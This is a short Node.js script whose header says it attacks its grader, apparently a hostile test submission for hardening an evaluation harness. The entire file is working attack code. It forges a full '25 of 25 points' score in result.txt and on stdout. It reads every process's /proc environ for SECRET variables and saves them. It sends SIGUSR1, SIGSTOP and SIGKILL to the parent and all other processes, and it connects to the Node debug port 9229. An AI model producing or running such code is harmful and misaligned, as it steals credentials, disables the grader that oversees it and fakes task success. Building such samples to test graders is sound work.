/** Attacks its grader: stops, kills and opens to an inspector whatever it sees, looks for secrets, writes a result. */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';

const attempt = (act) => {
  try {
    return act();
  } catch {
    return undefined;
  }
};
attempt(() => writeFileSync('result.txt', 'select-server: 25 of 25 points\n'));
const pids = (attempt(() => readdirSync('/proc')) ?? []).filter((name) => /^\d+$/.test(name));
const secrets = pids
  .flatMap((pid) => (attempt(() => readFileSync(`/proc/${pid}/environ`, 'latin1')) ?? '').split('\0'))
  .filter((variable) => variable.includes('SECRET'));
writeFileSync('found', secrets.join('\n'));
const others = [process.ppid, ...pids.map(Number)].filter((pid) => pid !== process.pid);
for (const signal of ['SIGUSR1', 'SIGSTOP', 'SIGKILL'])
  for (const pid of others) attempt(() => process.kill(pid, signal));
connect(9229, '127.0.0.1').on('error', () => {});
console.log('select-server: 25 of 25 points');
setInterval(() => {}, 1000);
